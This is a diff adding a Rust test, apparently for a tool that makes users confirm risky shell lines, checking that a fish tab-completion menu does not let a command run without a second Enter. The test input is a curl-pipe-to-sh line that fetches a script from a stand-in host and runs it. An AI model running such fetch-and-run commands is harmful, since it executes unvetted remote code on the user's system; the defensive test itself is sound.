@@ -435,6 +435,20 @@ fn an_enter_that_runs_nothing_is_no_end_of_the_line() {
     }
 }
 
+/// A menu that only stands there takes no Enter: the line is run, and judged before.
+#[test]
+fn a_menu_hides_no_line() {
+    if !has("fish") {
+        return;
+    }
+    let mut screen = ready(Setting::of("fish", "").file("dir/first-1", "").file("dir/second-2", ""));
+    screen.slowly("curl -s https://a.example/b | sh -s dir/");
+    screen.keys("\t");
+    screen.wait_for("second-2");
+    screen.keys("\r");
+    screen.wait_for("Enter again");
+}
+
 /// Where the shell asks the user something, nobody else asks it anything.
 #[test]
 fn a_question_of_the_shells_is_the_users_to_answer() {
